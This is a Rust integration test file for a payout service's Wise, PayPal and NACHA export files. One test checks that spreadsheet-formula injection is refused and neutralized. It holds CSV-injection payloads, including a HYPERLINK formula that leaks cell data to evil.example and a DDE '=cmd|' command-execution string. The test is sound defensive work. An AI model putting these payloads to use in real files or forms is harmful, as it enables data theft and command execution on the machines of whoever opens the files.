//! Provider files as their owners publish them, downloaded through the HTTP API and read
//! back with independent parsers: Wise batch CSVs (csv), the PayPal Payouts API request
//! (PayPal's published JSON schema), PayPal CSV (csv), NACHA (the `nacha` crate); and
//! free text that could start a spreadsheet formula, refused at input and neutralized
//! in the files.

use std::collections::{BTreeMap, BTreeSet};

use diesel::prelude::*;
use serde_json::{json, Value};

use crate::both_backends;
use crate::payouts::{add_method, build, fund, sign_w9};
use crate::support::{Backend, Options, TestApp, Tokens};
use crate::work::{world, World};

both_backends!(
    wise_files_follow_the_templates_with_business_receivers,
    a_2500_recipient_wise_batch_exports_in_three_parts,
    paypal_api_requests_match_the_published_schema_and_ids_never_repeat,
    nacha_file_has_a_ppd_and_a_ccd_batch_dated_from_the_export_day,
    formula_leading_text_is_refused_at_input_and_neutralized_in_files,
    wise_parts_take_each_kind_in_order_whatever_the_interleaving,
);

const WISE_EMAIL: &[&str] = &[
    "name",
    "recipientEmail",
    "paymentReference",
    "receiverType",
    "amountCurrency",
    "amount",
    "sourceCurrency",
    "targetCurrency",
];

const WISE_BANK_EXTRA: &[&str] = &[
    "abartn",
    "accountNumber",
    "accountType",
    "addressCountryCode",
    "addressCity",
    "addressFirstLine",
    "addressState",
    "addressPostCode",
];

/// A W-9 naming a business: an LLC taxed as an S corporation, with an EIN.
fn business_w9() -> Value {
    json!({
        "legal_name": "Dee Doe", "business_name": "Dee Labeling LLC", "tax_classification": "llc_s",
        "address_line1": "9 Oak Ave", "address_line2": "Suite 4", "city": "Denver", "region": "co",
        "postal_code": "80202", "tin_type": "ein", "tin": "12-3456781", "signature_name": "Dee Doe", "certify": true
    })
}

async fn sign_business_w9(app: &TestApp, t: &Tokens) {
    let profile = json!({
        "legal_name": "Dee Doe", "date_of_birth": "1985-03-04", "phone": "+1 303 555 0100",
        "address": {"line1": "9 Oak Ave", "city": "Denver", "region": "co", "postal_code": "80202"}
    });
    let (status, body) = app.patch("/me", Some(&t.access), profile).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = app.put("/me/tax-profile", Some(&t.access), business_w9()).await;
    assert_eq!(status, 200, "{body}");
}

fn bank(rail: &str, holder: &str, account: &str) -> Value {
    json!({"rail": rail, "holder_name": holder, "routing_number": "121000248", "account_number": account,
           "account_type": "checking"})
}

/// A downloaded export with the headers the tests read.
struct File {
    status: u16,
    body: String,
    parts: Option<String>,
    template: Option<String>,
}

async fn fetch(app: &TestApp, t: &Tokens, path: &str) -> File {
    let resp = app.client.get(app.url(path)).bearer_auth(&t.access).send().await.unwrap();
    let header = |n: &str| resp.headers().get(n).map(|v| v.to_str().unwrap().to_string());
    let (parts, template) = (header("x-export-parts"), header("x-export-template"));
    File { status: resp.status().as_u16(), parts, template, body: resp.text().await.unwrap() }
}

/// Header and rows of a CSV file, read by the csv crate.
fn read_csv(body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(body.as_bytes());
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r.records().map(|row| row.unwrap().iter().map(String::from).collect()).collect();
    (header, rows)
}

/// Builds a batch of everyone eligible and approves it by a second finance user.
async fn built_and_approved(app: &TestApp, w: &World, key: &str) -> Value {
    let (status, batch) = build(app, &w.finance, key, json!({})).await;
    assert_eq!(status, 201, "{batch}");
    let id = batch["id"].as_i64().unwrap();
    let checker = app.staff(&w.admin, &format!("checker-{key}@gatehouse.test"), &["finance"]).await;
    let (status, body) = app.post(&format!("/payout-batches/{id}/approve"), Some(&checker.access), json!({})).await;
    assert_eq!(status, 200, "{body}");
    let (_, batch) = app.get(&format!("/payout-batches/{id}?limit=200"), Some(&w.finance.access)).await;
    batch
}

fn items_by_contributor(batch: &Value) -> BTreeMap<i64, Value> {
    batch["items"].as_array().unwrap().iter().map(|i| (i["contributor_id"].as_i64().unwrap(), i.clone())).collect()
}

fn cents(amount: &str) -> i64 {
    let d: rust_decimal::Decimal = amount.parse().unwrap();
    (d * rust_decimal::Decimal::ONE_HUNDRED).try_into().unwrap()
}

async fn wise_files_follow_the_templates_with_business_receivers(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let w = world(&app, 3).await;
    let ids: Vec<i64> = w.contributors.iter().map(|(id, _)| *id).collect();
    // 0: email recipient, an individual; 1: bank account of a business (EIN W-9);
    // 2: bank account of an individual.
    sign_w9(&app, &w.contributors[0].1, false).await;
    sign_business_w9(&app, &w.contributors[1].1).await;
    sign_w9(&app, &w.contributors[2].1, false).await;
    add_method(&app, &w.contributors[0].1, json!({"rail": "wise", "email": "ana.wise@example.com"})).await;
    add_method(&app, &w.contributors[1].1, bank("wise", "Dee Labeling LLC", "000111222333")).await;
    add_method(&app, &w.contributors[2].1, bank("wise", "Ana Example", "000444555666")).await;
    for (i, id) in ids.iter().enumerate() {
        fund(&app, &w.finance, *id, 2_000 + i as i64).await;
    }
    let batch = built_and_approved(&app, &w, "wise-templates").await;
    let id = batch["id"].as_i64().unwrap();
    let items = items_by_contributor(&batch);

    // Part 1: the email template, its own file.
    let email = fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv")).await;
    assert_eq!(email.status, 200, "{}", email.body);
    assert_eq!((email.parts.as_deref(), email.template.as_deref()), (Some("2"), Some("email")));
    let (header, rows) = read_csv(&email.body);
    assert_eq!(header, WISE_EMAIL);
    let reference = |c: i64| format!("GH{}", items[&c]["id"]);
    assert_eq!(
        rows,
        [["Ana Example", "ana.wise@example.com", &reference(ids[0]), "PERSON", "target", "20.00", "USD", "USD"]]
    );

    // Part 2: the bank-account template, with the W-9 address Wise asks of USD recipients.
    let banks = fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv&part=2")).await;
    assert_eq!((banks.parts.as_deref(), banks.template.as_deref()), (Some("2"), Some("bank_account")));
    let (header, rows) = read_csv(&banks.body);
    assert_eq!(header, [WISE_EMAIL, WISE_BANK_EXTRA].concat());
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0],
        [
            "Dee Labeling LLC",
            "",
            &reference(ids[1]),
            "INSTITUTION",
            "target",
            "20.01",
            "USD",
            "USD",
            "121000248",
            "000111222333",
            "CHECKING",
            "US",
            "Denver",
            "9 Oak Ave Suite 4",
            "CO",
            "80202"
        ]
    );
    assert_eq!((rows[1][0].as_str(), rows[1][3].as_str(), rows[1][5].as_str()), ("Ana Example", "PERSON", "20.02"));
    assert_eq!((rows[1][12].as_str(), rows[1][13].as_str()), ("Austin", "1 Elm St"));
    assert_eq!(
        fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv&part=3")).await.status,
        404
    );
    assert_eq!(
        fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv&part=0")).await.status,
        404
    );

    // The files pay every Wise item of the batch once, for its net amount.
    let mut paid: BTreeMap<String, i64> = BTreeMap::new();
    for file in [&email.body, &banks.body] {
        for row in read_csv(file).1 {
            assert!(paid.insert(row[2].clone(), cents(&row[5])).is_none(), "an item twice");
        }
    }
    let expected: BTreeMap<String, i64> =
        items.values().map(|i| (format!("GH{}", i["id"]), i["net_cents"].as_i64().unwrap())).collect();
    assert_eq!(paid, expected);

    // A re-export is the same file.
    let again = fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv&part=2")).await;
    assert_eq!(again.body, banks.body);
}

/// Seeds `n` contributors paid by Wise to US bank accounts and an approved batch paying
/// them, through SQL in one transaction, 250 rows a statement (the eligibility rules
/// are tested elsewhere; this is about files).
fn seed_wise_batch(app: &TestApp, n: usize, maker: i64, checker: i64) -> i64 {
    use gatehouse::db::schema::{payout_batches as b, payout_methods as m, users as u};
    let now = app.state.clock.now();
    let ts = format!("'{}'", now.format("%Y-%m-%d %H:%M:%S"));
    let cipher = &app.state.cipher;
    let run = |conn: &mut gatehouse::db::DbConn, table: &str, columns: &str, rows: Vec<String>| {
        for chunk in rows.chunks(250) {
            diesel::sql_query(format!("INSERT INTO {table} ({columns}) VALUES {}", chunk.join(","))).execute(conn)?;
        }
        Ok::<_, gatehouse::error::AppError>(())
    };
    app.state
        .db
        .tx_sync(|conn| {
            let batch: i64 = diesel::insert_into(b::table)
                .values((
                    b::status.eq("approved"),
                    b::idempotency_key.eq("seeded-wise"),
                    b::request_hash.eq("x"),
                    b::note.eq("seeded"),
                    b::created_by.eq(maker),
                    b::created_at.eq(now),
                    b::approved_by.eq(checker),
                    b::approved_at.eq(now),
                    // Totals are written once the items are in (the database checks they are
                    // their sums: docs/ledger.md, "What the database guarantees").
                    b::sender_batch_id.eq(gatehouse::payouts::exports::new_sender_batch_id("TEST")),
                ))
                .returning(b::id)
                .get_result(conn)?;
            let users = (0..n).map(|k| format!("('wise{k}@example.com', 'Wise Payee {k}', 'active', {ts}, {ts})")).collect();
            run(conn, "users", "email, full_name, status, created_at, updated_at", users)?;
            let user_ids: Vec<i64> =
                u::table.filter(u::email.like("wise%@example.com")).order(u::id).select(u::id).load(conn)?;
            assert_eq!(user_ids.len(), n);
            let methods = user_ids
                .iter()
                .enumerate()
                .map(|(k, user)| {
                    let details = json!({"kind": "bank", "holder_name": format!("Wise Payee {k}"),
                        "routing_number": "121000248", "account_number": format!("{k:012}"),
                        "account_type": "checking"});
                    let enc = cipher.encrypt_str(&details.to_string()).replace('\'', "''");
                    format!("({user}, 'wise', 'active', '{enc}', 'Wise checking ****0000', {ts}, {ts}, 'bank')")
                })
                .collect();
            run(
                conn,
                "payout_methods",
                "user_id, rail, status, details_enc, masked, usable_from, created_at, destination_kind",
                methods,
            )?;
            let method_ids: Vec<i64> =
                m::table.filter(m::user_id.eq_any(&user_ids)).order(m::user_id).select(m::id).load(conn)?;
            let items = user_ids
                .iter()
                .zip(&method_ids)
                .enumerate()
                .map(|(k, (user, method))| {
                    let cents = 1_000 + k;
                    format!(
                        "({batch}, {user}, {method}, 'wise', {cents}, 0, {cents}, 'pending', {ts}, {p}, 'bank', {p})",
                        p = k + 1
                    )
                })
                .collect();
            run(
                conn,
                "payout_items",
                "batch_id, contributor_id, method_id, rail, gross_cents, withheld_cents, net_cents, status, created_at, \
                 rail_position, destination_kind, kind_position",
                items,
            )?;
            let total: i64 = (0..n as i64).map(|k| 1_000 + k).sum();
            diesel::update(b::table.find(batch))
                .set((
                    b::item_count.eq(n as i64),
                    b::gross_cents.eq(total),
                    b::withheld_cents.eq(0),
                    b::net_cents.eq(total),
                ))
                .execute(conn)?;
            Ok(batch)
        })
        .unwrap()
}

async fn a_2500_recipient_wise_batch_exports_in_three_parts(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin().await;
    let finance = app.staff(&admin, "fin@gatehouse.test", &["finance"]).await;
    let checker = app.staff(&admin, "fin-b@gatehouse.test", &["finance"]).await;
    let (maker_id, checker_id) = (app.user_id(&finance).await, app.user_id(&checker).await);
    let batch = seed_wise_batch(&app, 2_500, maker_id, checker_id);

    let mut seen = Vec::new();
    for (part, rows) in [(1, 1_000), (2, 1_000), (3, 500)] {
        let file = fetch(&app, &finance, &format!("/payout-batches/{batch}/export?format=wise_csv&part={part}")).await;
        assert_eq!(file.status, 200, "{}", &file.body[..file.body.len().min(300)]);
        assert_eq!((file.parts.as_deref(), file.template.as_deref()), (Some("3"), Some("bank_account")));
        let (header, body) = read_csv(&file.body);
        assert_eq!(header, [WISE_EMAIL, WISE_BANK_EXTRA].concat());
        assert_eq!(body.len(), rows, "part {part}");
        for row in body {
            let k: i64 = row[0].strip_prefix("Wise Payee ").unwrap().parse().unwrap();
            assert_eq!(cents(&row[5]), 1_000 + k, "{row:?}");
            assert_eq!(row[9], format!("{k:012}"));
            seen.push(k);
        }
    }
    assert_eq!(seen, (0..2_500).collect::<Vec<_>>(), "every transfer once, in order, across the parts");
    let file = fetch(&app, &finance, &format!("/payout-batches/{batch}/export?format=wise_csv&part=4")).await;
    assert_eq!(file.status, 404);
    let (_, b) = app.get(&format!("/payout-batches/{batch}"), Some(&finance.access)).await;
    assert_eq!(b["exports"].as_array().unwrap().len(), 3, "{b}");
}

/// Validates a Payouts API request body against PayPal's published schema
/// (tests/fixtures/paypal), and checks that it uses no property the schema does not
/// declare (PayPal's schemas allow unknown properties, so the validator alone would not
/// notice a misspelt one).
fn check_paypal_request(body: &Value) {
    let schema: Value =
        serde_json::from_str(include_str!("../fixtures/paypal/create_payout_request.schema.json")).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(body).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:?}\n{body}");
    let defs = &schema["$defs"];
    let declared =
        |def: &str| -> BTreeSet<String> { defs[def]["properties"].as_object().unwrap().keys().cloned().collect() };
    let keys = |v: &Value| -> BTreeSet<String> { v.as_object().unwrap().keys().cloned().collect() };
    assert!(keys(body).is_subset(&declared("create_payout_request")));
    assert!(keys(&body["sender_batch_header"]).is_subset(&declared("sender_batch_header")));
    for item in body["items"].as_array().unwrap() {
        assert!(keys(item).is_subset(&declared("payout_item")), "{item}");
        assert!(keys(&item["amount"]).is_subset(&declared("currency")));
    }
}

/// A fresh database with two PayPal payees in one approved batch; the API request comes
/// in parts of one item here.
async fn paypal_batch(backend: Backend) -> (TestApp, World, Value) {
    let options = Options { vars: vec![("GATEHOUSE_PAYPAL_API_MAX_ITEMS", "1".into())], ..Default::default() };
    let app = TestApp::spawn_with(backend, options).await;
    let w = world(&app, 2).await;
    for (i, (id, t)) in w.contributors.iter().enumerate() {
        sign_w9(&app, t, false).await;
        add_method(&app, t, json!({"rail": "paypal", "email": format!("pp{i}@example.com")})).await;
        fund(&app, &w.finance, *id, 1_500 + i as i64).await;
    }
    let batch = built_and_approved(&app, &w, "paypal").await;
    (app, w, batch)
}

async fn paypal_api_requests_match_the_published_schema_and_ids_never_repeat(backend: Backend) {
    let mut ids = BTreeSet::new();
    for _ in 0..2 {
        let (app, w, batch) = paypal_batch(backend).await;
        let id = batch["id"].as_i64().unwrap();
        assert_eq!(id, 1, "each database starts its batches at 1");
        let sender = batch["sender_batch_id"].as_str().unwrap().to_string();
        let mut items = BTreeMap::new();
        for part in 1..=2 {
            let path = format!("/payout-batches/{id}/export?format=paypal_json&part={part}");
            let file = fetch(&app, &w.finance, &path).await;
            assert_eq!((file.status, file.parts.as_deref()), (200, Some("2")), "{}", file.body);
            let body: Value = serde_json::from_str(&file.body).unwrap();
            check_paypal_request(&body);
            let sender_batch_id = body["sender_batch_header"]["sender_batch_id"].as_str().unwrap().to_string();
            assert_eq!(sender_batch_id, format!("{sender}-{part}"));
            assert!(ids.insert(sender_batch_id.clone()), "{sender_batch_id} repeated");
            for item in body["items"].as_array().unwrap() {
                items.insert(item["sender_item_id"].as_str().unwrap().parse::<i64>().unwrap(), item.clone());
            }
            // A retry of the part is the same request, with the same id.
            let again = fetch(&app, &w.finance, &path).await;
            assert_eq!(again.body, file.body);
        }
        assert_eq!(
            fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=paypal_json&part=3")).await.status,
            404
        );
        for i in batch["items"].as_array().unwrap() {
            let item = &items[&i["id"].as_i64().unwrap()];
            assert_eq!(cents(item["amount"]["value"].as_str().unwrap()), i["net_cents"].as_i64().unwrap());
            assert_eq!(item["amount"]["currency"], "USD");
        }

        // The web upload CSV, read by a CSV parser: one row per item, customer id = item id.
        let file = fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=paypal_csv")).await;
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.body.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        for row in rows {
            let item = &items[&row[3].parse::<i64>().unwrap()];
            assert_eq!(
                (&row[0], &row[1], &row[2], &row[5]),
                (item["receiver"].as_str().unwrap(), item["amount"]["value"].as_str().unwrap(), "USD", "PAYPAL")
            );
        }
    }
    assert_eq!(ids.len(), 4, "two batches, numbered 1 in two fresh databases, share no sender_batch_id");
}

async fn nacha_file_has_a_ppd_and_a_ccd_batch_dated_from_the_export_day(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut w = world(&app, 2).await;
    let ids: Vec<i64> = w.contributors.iter().map(|(id, _)| *id).collect();
    sign_w9(&app, &w.contributors[0].1, false).await;
    sign_business_w9(&app, &w.contributors[1].1).await;
    add_method(&app, &w.contributors[0].1, bank("ach", "José Ñúñez", "000555666777")).await;
    add_method(&app, &w.contributors[1].1, bank("ach", "Dee Labeling LLC", "000888999000")).await;
    fund(&app, &w.finance, ids[0], 3_000).await;
    fund(&app, &w.finance, ids[1], 4_500).await;
    let batch = built_and_approved(&app, &w, "nacha").await;
    let id = batch["id"].as_i64().unwrap();
    let items = items_by_contributor(&batch);

    // Exported three days after its approval: dated from the export day, not the approval.
    app.clock.advance(chrono::Duration::days(3));
    app.renew(&mut w.finance, "fin@gatehouse.test").await;
    let today = app.state.clock.now().date();
    let path = format!("/payout-batches/{id}/export?format=nacha");
    let file = fetch(&app, &w.finance, &path).await;
    assert_eq!(file.status, 200, "{}", file.body);
    let lines: Vec<&str> = file.body.lines().collect();
    assert!(lines.iter().all(|l| l.len() == 94 && l.is_ascii()));
    assert_eq!(lines.len() % 10, 0);
    let parsed = nacha::NachaFile::new(file.body.clone());
    assert_eq!(parsed.file_header.file_creation_date, Some(today));
    assert_eq!(parsed.batches.len(), 2);
    let (ppd, ccd) = (&parsed.batches[0], &parsed.batches[1]);
    assert_eq!(
        (ppd.batch_header.standard_entry_class_code.as_str(), ppd.batch_header.company_entry_description.as_str()),
        ("PPD", "PAYROLL")
    );
    assert_eq!(
        (ccd.batch_header.standard_entry_class_code.as_str(), ccd.batch_header.company_entry_description.as_str()),
        ("CCD", "PAYOUT")
    );
    let effective = gatehouse::calendar::next_business_day(today);
    for b in [ppd, ccd] {
        assert_eq!(b.batch_header.effective_entry_date, Some(effective));
        assert_eq!(b.batch_header.service_class_code, "220");
        assert_eq!(b.detail_entries.len(), 1);
    }
    assert!(effective > today && gatehouse::calendar::is_business_day(effective));
    let (consumer, business) = (&ppd.detail_entries[0], &ccd.detail_entries[0]);
    assert_eq!(consumer.individual_name, "JOSE NUNEZ", "transliterated, never blanked");
    assert_eq!(consumer.individual_id_number, items[&ids[0]]["id"].to_string());
    assert_eq!(consumer.amount, 3_000);
    assert_eq!(business.individual_name, "DEE LABELING LLC");
    assert_eq!(business.dfi_account_number, "000888999000");
    assert_eq!(business.amount, 4_500);
    assert_ne!(consumer.trace_number, business.trace_number);
    // Each batch control totals its own entries; the file control totals both.
    let parsed_json: Value = serde_json::from_str(&parsed.as_json()).unwrap();
    for (n, b) in [ppd, ccd].iter().enumerate() {
        let control = &parsed_json["batches"][n]["batch_control"];
        assert_eq!(control["entry_addenda_count"].as_str().unwrap().parse::<usize>().unwrap(), 1);
        let hash: u64 = b.detail_entries.iter().map(|e| e.receiving_dfi_id.parse::<u64>().unwrap()).sum();
        assert_eq!(control["entry_hash"].as_str().unwrap().parse::<u64>().unwrap(), hash);
    }
    let controls: Vec<&&str> = lines.iter().filter(|l| l.starts_with('8')).collect();
    assert_eq!(controls[0][32..44].parse::<u32>().unwrap(), 3_000, "nacha 1.5 misreads this field: read by position");
    assert_eq!(controls[1][32..44].parse::<u32>().unwrap(), 4_500);
    let fc = &parsed.file_control;
    assert_eq!((fc.batch_count, fc.entry_and_addenda_count, fc.total_credit, fc.total_debit), (2, 2, 7_500, 0));

    // A week later the same file downloads again, byte for byte (its dates are fixed).
    app.clock.advance(chrono::Duration::days(7));
    app.renew(&mut w.finance, "fin@gatehouse.test").await;
    assert_eq!(fetch(&app, &w.finance, &path).await.body, file.body);
}

async fn formula_leading_text_is_refused_at_input_and_neutralized_in_files(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    let refused = |body: &Value, field: &str| {
        let errors = body["errors"].as_array().unwrap_or_else(|| panic!("{body}"));
        assert!(errors.iter().any(|e| e["field"] == field && e["code"] == "formula_leading"), "{field}: {body}");
    };
    let (status, body) = app
        .post(
            "/auth/register",
            None,
            json!({"email": "evil@example.com", "password": crate::support::PASSWORD, "full_name": formula}),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    refused(&body, "full_name");

    let mut w = world(&app, 2).await;
    let t = w.contributors[0].1.clone();
    for (patch, field) in [
        (json!({"full_name": formula}), "full_name"),
        (json!({"legal_name": "+1 555"}), "legal_name"),
        (
            json!({"address": {"line1": "@SUM(1)", "city": "Austin", "region": "TX", "postal_code": "78701"}}),
            "address.line1",
        ),
        (
            json!({"address": {"line1": "1 Elm St", "city": "-2+3", "region": "TX", "postal_code": "78701"}}),
            "address.city",
        ),
    ] {
        let (status, body) = app.patch("/me", Some(&t.access), patch).await;
        assert_eq!(status, 422, "{body}");
        refused(&body, field);
    }
    let mut w9 = business_w9();
    w9["legal_name"] = json!("\t=1+1");
    w9["signature_name"] = json!("\t=1+1");
    w9["business_name"] = json!("@biz");
    w9["address_line2"] = json!("=2");
    let (status, body) = app.put("/me/tax-profile", Some(&t.access), w9).await;
    assert_eq!(status, 422, "{body}");
    for field in ["legal_name", "business_name", "address_line2", "signature_name"] {
        refused(&body, field);
    }
    let (status, body) =
        app.post("/me/payout-methods", Some(&t.access), bank("ach", "=cmd|' /C calc'!A0", "000123123")).await;
    assert_eq!(status, 422, "{body}");
    refused(&body, "holder_name");
    let (status, body) =
        app.post("/me/payout-methods", Some(&t.access), json!({"rail": "wise", "email": "-ana@example.com"})).await;
    assert_eq!(status, 422, "{body}");
    refused(&body, "email");
    // Names with such characters inside are people's names.
    let (status, body) = app.patch("/me", Some(&t.access), json!({"full_name": "Mary-Jane O'Neil-Smith"})).await;
    assert_eq!(status, 200, "{body}");

    // A name stored before the rule existed: the Wise file neutralizes it.
    sign_w9(&app, &t, false).await;
    add_method(&app, &t, json!({"rail": "wise", "email": "legacy@example.com"})).await;
    let id = w.contributors[0].0;
    app.state
        .db
        .tx_sync(|conn| {
            use gatehouse::db::schema::{tax_profiles as tp, users as u};
            diesel::update(u::table.find(id)).set(u::full_name.eq(formula)).execute(conn)?;
            diesel::update(tp::table.filter(tp::user_id.eq(id))).set(tp::legal_name.eq(formula)).execute(conn)?;
            Ok(())
        })
        .unwrap();
    fund(&app, &w.finance, id, 2_000).await;
    app.renew(&mut w.finance, "fin@gatehouse.test").await;
    let batch = built_and_approved(&app, &w, "legacy").await;
    let file = fetch(&app, &w.finance, &format!("/payout-batches/{}/export?format=wise_csv", batch["id"])).await;
    let (_, rows) = read_csv(&file.body);
    assert_eq!(rows[0][0], format!("'{formula}"), "{}", file.body);
    assert!(read_csv(&file.body).1.iter().flatten().all(|cell| !gatehouse::text::formula_leading(cell)));
}

/// Issue 19: a Wise part is "the k-th slice of one destination kind", read as a range of
/// the items' `kind_position` (not counted and skipped over a join). With kinds
/// interleaved in the batch and two rows per file, each part holds exactly the next
/// items of its kind in batch order, and finance's item view names the part that
/// carries each item.
async fn wise_parts_take_each_kind_in_order_whatever_the_interleaving(backend: Backend) {
    let app = TestApp::spawn_with(
        backend,
        Options { vars: vec![("GATEHOUSE_WISE_CSV_MAX_ROWS", "2".into())], ..Options::default() },
    )
    .await;
    let w = world(&app, 5).await;
    for (i, (id, t)) in w.contributors.iter().enumerate() {
        sign_w9(&app, t, false).await;
        let method = if i % 2 == 0 {
            json!({"rail": "wise", "email": format!("payee{i}@example.com")})
        } else {
            bank("wise", &format!("Payee {i}"), &format!("00011122233{i}"))
        };
        add_method(&app, t, method).await;
        fund(&app, &w.finance, *id, 2_000 + i as i64).await;
    }
    let batch = built_and_approved(&app, &w, "wise-interleaved").await;
    let id = batch["id"].as_i64().unwrap();
    let items = items_by_contributor(&batch);
    let item_of = |k: usize| items[&w.contributors[k].0]["id"].as_i64().unwrap();

    // Emails (contributors 0, 2, 4) in parts 1 and 2, bank accounts (1, 3) in part 3.
    for (part, template, holders) in [(1, "email", vec![0, 2]), (2, "email", vec![4]), (3, "bank_account", vec![1, 3])]
    {
        let file = fetch(&app, &w.finance, &format!("/payout-batches/{id}/export?format=wise_csv&part={part}")).await;
        assert_eq!(file.status, 200, "{}", file.body);
        assert_eq!((file.parts.as_deref(), file.template.as_deref()), (Some("3"), Some(template)), "part {part}");
        let (_, rows) = read_csv(&file.body);
        let references: Vec<&str> = rows.iter().map(|r| r[2].as_str()).collect();
        let expected: Vec<String> = holders.iter().map(|k| format!("GH{}", item_of(*k))).collect();
        assert_eq!(references, expected, "part {part}: {}", file.body);
    }
    let (status, _) =
        app.get(&format!("/payout-batches/{id}/export?format=wise_csv&part=4"), Some(&w.finance.access)).await;
    assert_eq!(status, 404, "there is no fourth part");

    // Finance's view of an item names the file part that carries it.
    for (k, part) in [(0, 1), (2, 1), (4, 2), (1, 3), (3, 3)] {
        let (status, view) = app.get(&format!("/payout-items/{}/tasks", item_of(k)), Some(&w.finance.access)).await;
        assert_eq!(status, 200, "{view}");
        let files = view["item"]["files"].as_array().unwrap();
        assert_eq!(files.len(), 1, "{view}");
        assert_eq!((files[0]["format"].as_str(), files[0]["part"].as_i64()), (Some("wise_csv"), Some(part)), "{view}");
    }
}
